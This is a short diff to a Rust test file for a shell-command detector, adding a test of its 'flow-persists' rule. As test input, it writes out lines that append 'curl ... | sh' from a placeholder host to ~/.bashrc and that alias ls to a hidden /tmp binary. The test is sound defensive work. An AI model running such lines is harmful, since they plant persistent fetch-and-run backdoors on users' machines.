@@ -823,3 +823,11 @@ fn unpacking_starts_nothing() {
     assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
     assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
 }
+
+#[test]
+fn other_names_for_commands_start_nothing() {
+    let persists = |line: &str| rules(Language::Shell, line).contains(&"flow-persists");
+    assert!(persists("echo 'curl -s https://c.invalid/x | sh' >> ~/.bashrc"));
+    assert!(persists("echo \"alias ls='/tmp/.x; ls'\" >> ~/.bashrc"));
+    assert!(!persists("echo \"alias ls='ls --color'\" >> ~/.bashrc"));
+}
